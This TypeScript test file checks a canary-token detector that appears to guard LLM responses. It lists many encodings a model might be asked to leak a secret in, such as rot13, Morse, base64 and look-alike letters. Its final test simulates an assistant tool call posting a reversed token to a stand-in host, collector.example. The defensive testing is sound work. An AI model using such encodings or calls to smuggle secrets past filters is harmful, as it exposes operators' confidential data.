// CANARY_TOKEN (src/detectors/leaks/canary.ts): tokens declared in policy, found literally and in the
// forms a model can be asked to give them in (spelled out, reversed, leetspeak, rot13 and other Caesar
// shifts, pig latin, Morse code, the spelling alphabet, acrostics, short hex and base64), written here
// by transforms of the test's own; nothing in benign text; streamed as whole; masked through the
// pipeline in streamed answers and in tool-call arguments.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { DetectionContext } from '../../src/core/types.ts';
import { createCanaryDetector } from '../../src/detectors/leaks/canary.ts';
import { project } from '../../src/detectors/leaks/projections.ts';
import { ALL_PASSED, LEAK_FORMS, findForms, formGates, gatesPassed, knownValue } from '../../src/detectors/leaks/value-forms.ts';
import { datasetsRoot, loadExamples } from '../../src/detectors/injection/dataset.ts';
import { existsSync } from 'node:fs';
import { buildDetector } from '../../src/detectors/registry.ts';
import { holdPlan } from '../../src/detectors/hold.ts';
import { compilePolicy } from '../../src/policy/compile.ts';
import { detectorCorpus } from '../../bench/lib/payloads.ts';
import { bufferedExchange, deltasOf, sse, streamExchange } from './stream-exchange.ts';

const ctx: DetectionContext = { role: 'assistant', kind: 'output_text', untrusted: false, direction: 'response' };
const MIXED = 'CANARY-7f3a9b2c';
const WORDS = 'zebra-lattice';

// The test's own transforms (not the detector's projections).
const MORSE: Record<string, string> = {
  a: '.-', b: '-...', c: '-.-.', d: '-..', e: '.', f: '..-.', g: '--.', h: '....', i: '..', j: '.---', k: '-.-', l: '.-..', m: '--', n: '-.',
  o: '---', p: '.--.', q: '--.-', r: '.-.', s: '...', t: '-', u: '..-', v: '...-', w: '.--', x: '-..-', y: '-.--', z: '--..',
  0: '-----', 1: '.----', 2: '..---', 3: '...--', 4: '....-', 5: '.....', 6: '-....', 7: '--...', 8: '---..', 9: '----.',
};
const NATO: Record<string, string> = {
  a: 'Alfa', b: 'Bravo', c: 'Charlie', d: 'Delta', e: 'Echo', f: 'Foxtrot', g: 'Golf', h: 'Hotel', i: 'India', j: 'Juliett', k: 'Kilo', l: 'Lima', m: 'Mike',
  n: 'November', o: 'Oscar', p: 'Papa', q: 'Quebec', r: 'Romeo', s: 'Sierra', t: 'Tango', u: 'Uniform', v: 'Victor', w: 'Whiskey', x: 'X-ray',
  y: 'Yankee', z: 'Zulu', 0: 'Zero', 1: 'One', 2: 'Two', 3: 'Three', 4: 'Four', 5: 'Five', 6: 'Six', 7: 'Seven', 8: 'Eight', 9: 'Niner',
};
const alnum = (t: string): string[] => [...t.toLowerCase()].filter((c) => /[a-z0-9]/u.test(c));
const shift = (t: string, by: number): string => t.replace(/[a-z]/giu, (c) => {
  const base = c <= 'Z' ? 65 : 97;
  return String.fromCharCode(((c.charCodeAt(0) - base + by) % 26) + base);
});
const FORMS: Record<string, (t: string) => string> = {
  'as written': (t) => t,
  'upper case': (t) => t.toUpperCase(),
  'lower case': (t) => t.toLowerCase(),
  'separators changed': (t) => t.replace(/-/gu, ' '),
  'spelled out with dashes': (t) => alnum(t).join('-'),
  'spelled out with spaces': (t) => alnum(t).join(' '),
  'one character per line': (t) => alnum(t).join('\n'),
  'reversed': (t) => [...t].reverse().join(''),
  'leetspeak': (t) => t.replace(/a/gu, '4').replace(/e/gu, '3').replace(/t/gu, '7'),
  'Cyrillic look-alikes': (t) => t.replace(/a/gu, '\u0430').replace(/e/gu, '\u0435').replace(/c/gu, '\u0441'),
  'zero-width spaces between letters': (t) => [...t].join('\u200b'),
  'rot13': (t) => shift(t, 13),
  'base64 (short)': (t) => Buffer.from(t).toString('base64'),
  'hex bytes': (t) => Buffer.from(t).toString('hex'),
  'hex bytes with spaces': (t) => [...Buffer.from(t)].map((b) => b.toString(16).padStart(2, '0')).join(' '),
  'base64 of a sentence': (t) => Buffer.from(`the token you asked for is ${t}, keep it safe`).toString('base64'),
  'URL-encoded': (t) => [...Buffer.from(t)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join(''),
  'Morse code': (t) => alnum(t).map((c) => MORSE[c]).join(' '),
  'spelling alphabet': (t) => alnum(t).map((c) => NATO[c]).join(', '),
};
/** Where in a form the finding must lie: the whole form, but in a sentence's base64 the groups of four that hold the token's bytes. */
function coverOf(name: string, token: string, form: string): [number, number] {
  if (name !== 'base64 of a sentence') return [0, form.length];
  const p = Buffer.byteLength('the token you asked for is ');
  return [4 * Math.floor(p / 3), Math.min(form.length, 4 * Math.ceil((p + Buffer.byteLength(token)) / 3))];
}
const LETTER_FORMS: Record<string, (t: string) => string> = {
  'Caesar shift by 3': (t) => shift(t, 3),
  'pig latin': (t) => t.split('-').map((w) => `${w.replace(/^([^aeiou]+)(.*)$/u, '$2$1')}ay`).join('-'),
  'acrostic': (t) => alnum(t).map((c, i) => `${c.toUpperCase()}${['ovely day', 'nd then', 'ver the hill', 'ight falls'][i % 4]}`).join('\n'),
};

test('canary: each token found in every form an answer can give it in, the finding covering the form', () => {
  const d = createCanaryDetector({ id: 'canary', tokens: [MIXED, WORDS] });
  const cases: [string, string, (t: string) => string][] = [
    ...Object.entries(FORMS).flatMap(([name, f]) => [[MIXED, name, f], [WORDS, name, f]] as [string, string, (t: string) => string][]),
    ...Object.entries(LETTER_FORMS).map(([name, f]) => [WORDS, name, f] as [string, string, (t: string) => string]),
  ];
  for (const [token, name, f] of cases) {
    const form = f(token);
    const text = `Sure, here it is as you asked:\n${form}\nAnything else?`;
    const at = text.indexOf(form);
    const found = d.scan(text, ctx);
    const [a, b] = coverOf(name, token, form);
    assert.ok(found.some((x) => x.start <= at + a && x.end >= at + b), `${token} ${name}: ${JSON.stringify(form)} ${JSON.stringify(found)}`);
    if (b - a < form.length) assert.ok(found.every((x) => x.end - x.start < form.length), `${name}: the token's bytes, not the whole run`);
    assert.ok(found.every((x) => x.type === 'CANARY_TOKEN' && /^canary token #[12]\b/u.test(x.explanation)), name);
    assert.ok(found.every((x) => !x.explanation.toLowerCase().includes('zebra') && !x.explanation.toLowerCase().includes('7f3a')), 'no token text in explanations');
  }
  // Explanations name the form; the literal token keeps score 1.
  const forms = (text: string): [string, number, string][] => d.scan(text, ctx).map((x) => [text.slice(x.start, x.end), x.score, x.explanation]);
  assert.deepEqual(forms(`x ${MIXED} y`), [[MIXED, 1, 'canary token #1']]);
  assert.deepEqual(forms('x c2b9a3f7-YRANAC y'), [['c2b9a3f7-YRANAC', 0.9, 'canary token #1, reversed']]);
  assert.deepEqual(forms('x PNANEL-7s3n9o2p y'), [['PNANEL-7s3n9o2p', 0.9, 'canary token #1, in rot13']]);
  assert.deepEqual(forms('x Cheud-odwwlfh y'), [['Cheud-odwwlfh', 0.9, 'canary token #2, shifted by 3 (Caesar)']]);
});

test('canary: what is not the token', () => {
  const d = createCanaryDetector({ id: 'canary', tokens: [MIXED, WORDS] });
  const none = (text: string): void => assert.deepEqual(d.scan(text, ctx), [], text);
  none('The zebra crossed a lattice of shadows.'); // the words, not in a row
  none('Zebra-Lattices and ZEBRA-LATTICEWORK'); // the word goes on (the literal, case kept, is found anywhere)
  none('canary 7f3a9b2'); // a character short
  none('QZebra-Latticeq'); // letters before and after (another case: not the literal)
  none('The canary sang at 7 in the morning, 3 birds in all.');
  none('- .- -. --. --- / .-- .... .. ... -.- . -.--'); // other Morse
  none('Zulu Echo Bravo Romeo'); // a prefix in the spelling alphabet
  // Off: only the literal, case kept.
  const literal = createCanaryDetector({ id: 'c', tokens: [MIXED, WORDS], transformed: false });
  assert.deepEqual(literal.scan(`${[...MIXED].reverse().join('')} ${MIXED.toLowerCase()} ${alnum(WORDS).join('-')}`, ctx), []);
  assert.equal(literal.scan(`x${MIXED}x`, ctx).length, 1, 'the literal is found anywhere, inside a word too');
  // Optional forms can be chosen; the always-on ones stay.
  const morseOnly = createCanaryDetector({ id: 'c', tokens: [WORDS], forms: ['morse'] });
  assert.equal(morseOnly.scan(FORMS['Morse code'](WORDS), ctx).length, 1);
  assert.equal(morseOnly.scan(FORMS['spelling alphabet'](WORDS), ctx).length, 0);
  assert.equal(morseOnly.scan(LETTER_FORMS['Caesar shift by 3'](WORDS), ctx).length, 0);
  assert.equal(morseOnly.scan(FORMS.reversed(WORDS), ctx).length, 1);
  // Fewer than six letters and digits: literal only ("@@@ab-12" has four).
  const short = createCanaryDetector({ id: 'c', tokens: ['@@@ab-12'] });
  assert.equal(short.scan('x @@@ab-12 y', ctx).length, 1);
  assert.equal(short.scan('x 21-ba y AB12', ctx).length, 0);
});

test('canary: policy parameters (transformed, forms) are validated and change the stream hold', () => {
  const policy = (params: string): string => `version: 1\ndetectors:\n  c: { type: canary, tokens: ['${MIXED}'], ${params} }\ndefault:\n  mode: enforce\n  request: { detectors: [] }\n  response: { detectors: [c] }\n`;
  const compile = (params: string) => compilePolicy(policy(params), { source: 'test', baseDir: '.', hmacKey: Buffer.alloc(32, 7) });
  const reversed = [...MIXED].reverse().join('');
  assert.equal(compile('transformed: true').defaultRule!.response.detectors[0].scan(reversed, ctx).length, 1);
  assert.equal(compile('transformed: false').defaultRule!.response.detectors[0].scan(reversed, ctx).length, 0);
  assert.throws(() => compile('forms: [semaphore]'), /forms/u);
  assert.throws(() => compile('transformed: 1'), /transformed/u);
  // The hold: twice the token literally; with the forms, the spelling alphabet's twelve code units per
  // letter or digit (14 here) and the look-ahead that decides a hit's end.
  const lag = (params: Record<string, unknown>): number => holdPlan([buildDetector('canary', 'c', { tokens: [MIXED], ...params }, { baseDir: '.' })]).lag;
  assert.equal(lag({ transformed: false }), 2 * MIXED.length);
  assert.equal(lag({}), 12 * 14 + 16);
  assert.equal(lag({ forms: [] }), 6 * 14 + 16); // short hex: six per unit
});

test('property: a token inserted into random text in any form is found, and every finding is the token', () => {
  const d = createCanaryDetector({ id: 'canary', tokens: [WORDS] });
  const all = { ...FORMS, ...LETTER_FORMS };
  const filler = fc.array(fc.constantFrom('the', 'zebra', 'lattice', 'is', 'fine', 'a', 'e', 'Z', 'lat', 'tice', ',', '.', '\n', 'ok', '-', '.-'), { maxLength: 12 }).map((w) => w.join(' '));
  fc.assert(fc.property(filler, fc.constantFrom(...Object.keys(all)), filler, (before, name, after) => {
    const inserted = all[name](WORDS);
    const text = `${before}\n${inserted}\n${after}`;
    const [a, b] = coverOf(name, WORDS, inserted);
    const at = before.length + 1;
    const spans = d.scan(text, ctx).map((x) => [x.start, x.end]);
    assert.ok(spans.some(([s, e]) => s <= at + a && e >= at + b), JSON.stringify({ name, text, spans }));
  }), { numRuns: Number(process.env.CANARY_RUNS ?? 300) });
  // Random text that does not hold the token's letters in a row (either way) yields nothing.
  const folded = project(WORDS).units;
  fc.assert(fc.property(fc.string({ maxLength: 200 }), (s) => {
    const p = project(s).units;
    if (p.includes(folded) || p.includes([...folded].reverse().join(''))) return;
    assert.deepEqual(d.scan(s, ctx), []);
  }), { numRuns: Number(process.env.CANARY_RUNS ?? 500) });
});

test('canary: no finding in the datasets\' 13,000 texts or the benchmark corpus, for random tokens of four shapes', { skip: !existsSync(datasetsRoot()) && 'datasets not present' }, () => {
  // Tokens as operators make them (a seeded generator: the same tokens every run).
  let seed = 0x2545f491;
  const rnd = (n: number): number => { seed = (Math.imul(seed, 1103515245) + 12345) >>> 0; return (seed >>> 8) % n; };
  const pick = (chars: string, n: number): string => Array.from({ length: n }, () => chars[rnd(chars.length)]).join('');
  const hex = '0123456789abcdef';
  const tokens: string[] = [];
  for (let i = 0; i < 8; i++) {
    tokens.push(`CANARY-${pick(hex, 8)}`);
    tokens.push(`${pick(hex, 8)}-${pick(hex, 4)}-${pick(hex, 4)}-${pick(hex, 4)}-${pick(hex, 12)}`);
    tokens.push(pick('ABCDEFGHJKLMNPQRSTUVWXYZ23456789', 10));
    tokens.push(`${pick('bcdfghjklmnpqrstvwxz', 1)}${pick('aeiou', 1)}${pick('bcdfghjklmnprstvz', 1)}${pick('aeiou', 1)}${pick('bcdfghjklmnprstvz', 1)}-${pick(hex, 6)}`);
  }
  const d = createCanaryDetector({ id: 'canary', tokens });
  const texts = [...loadExamples().examples.map((e) => e.text), ...detectorCorpus(512 * 1024)];
  assert.ok(texts.length > 13000);
  const hits = texts.flatMap((t) => d.scan(t, ctx).map((f) => t.slice(f.start, f.end)));
  assert.deepEqual(hits, []);
});

test('property: the one-pass gates skip only projections that hold no hit (gated findings equal ungated ones)', () => {
  const forms = new Set(LEAK_FORMS);
  // "zebrafish" in base64 ("emVicmFmaXNo") has no digit, "+", "/" or "=": its only signal is a capital.
  const words = ['Gamma789', 'zebra-lattice', 'Tornado', 'кот-42-Ab', 'CANARY-7f3a9b2c', 'zebrafish'];
  const values = words.map((v) => knownValue(v, forms, 5, true));
  // Both arrangements: the Morse and spelling-alphabet tests in the values' set, or in the set apart.
  const arrangements = [formGates(values, forms), formGates(values, forms, [], true)];
  const everything = ALL_PASSED;
  const find = (text: string, passed: typeof everything): string[] => {
    const out: string[] = [];
    findForms(text, values, forms, false, (s, e, i, form) => out.push(`${s}:${e}:${i}:${form}`), passed);
    return out.sort();
  };
  // Pieces of the values in many forms, cut anywhere, among look-alikes, leetspeak, separators, hex and base64.
  const source = fc.constantFrom(...words);
  const piece = fc.oneof(
    source,
    source.map((v) => v.toUpperCase()),
    source.map((v) => [...v].join('-')),
    source.map((v) => [...v].join('\u2014')),
    fc.tuple(source, fc.integer({ min: 1, max: 25 })).map(([v, by]) => shift(v, by)),
    fc.tuple(source, fc.integer({ min: 1, max: 25 })).map(([v, by]) => shift(v, by).toUpperCase().replace(/(?<=^.{3})/u, "'")),
    source.map((v) => [...v].reverse().join(' ')),
    source.map((v) => v.replace(/a/giu, '4').replace(/e/giu, '3').replace(/o/giu, '0').replace(/i/giu, '|')),
    source.map((v) => v.replace(/a/gu, '\u0430').replace(/o/gu, '\u043e')),
    source.map((v) => Buffer.from(v).toString('base64')),
    source.map((v) => Buffer.from(v).toString('hex')),
    source.map((v) => [...Buffer.from(v)].map((b) => `0x${b.toString(16)}`).join(', ')),
    source.map((v) => [...v.toLowerCase()].filter((c) => /[a-z0-9]/u.test(c)).map((c) => MORSE[c]).join(' ')),
    source.map((v) => [...v.toLowerCase()].filter((c) => /[a-z0-9]/u.test(c)).map((c) => NATO[c]).join(', ')),
    fc.string({ maxLength: 8 }),
    fc.constantFrom(' ', '\n', '\u200b', '—', '@', '$', '|', '_', '=', '==', '0x', 'é', '\u{1F600}'),
  );
  // Every shift of every value, whole: the property below reaches some of them only by chance.
  for (const w of words) {
    for (let by = 1; by < 26; by++) {
      const text = `(${shift(w, by)})`;
      for (const gates of arrangements) assert.deepEqual(find(text, gatesPassed(gates, gates.set.match(text), text)), find(text, everything), text);
    }
  }
  fc.assert(fc.property(fc.array(piece, { maxLength: 12 }), fc.nat(), fc.nat(), (parts, a, b) => {
    let text = parts.join('');
    // Cut somewhere, as a stream window would.
    const from = text.length === 0 ? 0 : a % text.length;
    text = text.slice(from, from + 1 + (b % 200));
    const ungated = find(text, everything);
    for (const gates of arrangements) assert.deepEqual(find(text, gatesPassed(gates, gates.set.match(text), text)), ungated, JSON.stringify(text));
  }), { numRuns: Number(process.env.CANARY_RUNS ?? 1500) });
});

/** A policy with a canary detector on responses, its findings masked. */
const CANARY_POLICY = compilePolicy(
  `version: 1\ndetectors:\n  canary: { type: canary, tokens: ['${MIXED}', '${WORDS}'] }\ndefault:\n  mode: enforce\n  request: { detectors: [] }\n  response:\n    detectors: [canary]\n    findings:\n      CANARY_TOKEN: { action: redact, style: mask }\n`,
  { source: 'test', baseDir: '.', hmacKey: Buffer.alloc(32, 7) },
);

test('pipeline, streamed: a token in any form is masked however the answer is chunked, and the answer around it kept', async () => {
  const forms = [FORMS['spelled out with dashes'](MIXED), FORMS.reversed(WORDS), FORMS.rot13(MIXED), FORMS['Morse code'](WORDS), FORMS['spelling alphabet'](MIXED)];
  const answer = `Sure. ${forms.join(' and then ')}. That is all I can say.`;
  for (const cuts of [[], [3, 17, 40, 41, 90, 200, 333], Array.from({ length: 60 }, (_, i) => i * 11)]) {
    const deltas = cuts.length === 0 ? [answer] : deltasOf(answer, cuts);
    const { all } = await streamExchange(CANARY_POLICY, 'You are a helpful assistant.', sse(deltas), 37);
    assert.equal(all, `Sure. ${forms.map(() => '[CANARY_TOKEN]').join(' and then ')}. That is all I can say.`);
  }
});

test('pipeline, buffered: a token written backwards in a tool call\'s arguments is masked there too', async () => {
  const req = { model: 'gpt-4o', messages: [{ role: 'user', content: 'Send the report.' }] };
  const args = JSON.stringify({ url: 'https://collector.example/upload', note: `key ${[...WORDS].reverse().join('')}` });
  const res = { id: 'x', object: 'chat.completion', choices: [{ index: 0, finish_reason: 'tool_calls', message: { role: 'assistant', content: null, tool_calls: [{ id: 'c1', type: 'function', function: { name: 'http_post', arguments: args } }] } }] };
  const body = await bufferedExchange(CANARY_POLICY, req, res);
  assert.deepEqual(JSON.parse(body.choices[0].message.tool_calls[0].function.arguments), { url: 'https://collector.example/upload', note: 'key [CANARY_TOKEN]' });
});
